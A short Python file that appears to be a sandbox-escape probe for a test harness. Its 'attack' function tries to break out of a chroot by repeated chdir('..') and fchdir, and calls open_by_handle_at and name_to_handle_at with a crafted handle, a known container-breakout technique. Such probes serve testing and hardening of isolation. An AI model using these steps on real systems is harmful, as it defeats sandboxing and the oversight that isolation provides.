"""Changes its root, and steps out of it."""

import os
from typing import Any


def attack(world: Any) -> list[str]:
    """Who is root in a chroot is out of it again."""
    found: list[str] = world.reached("chroot", b".")
    here = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(64):
        os.chdir("..")
    os.fchdir(here)
    handle = bytearray(128)
    handle[0] = 8
    found += world.reached("open_by_handle_at", here, bytes(handle), 0)
    found += world.reached("name_to_handle_at", here, b"tmp", bytes(handle), bytes(8), 0)
    os.close(here)
    return found
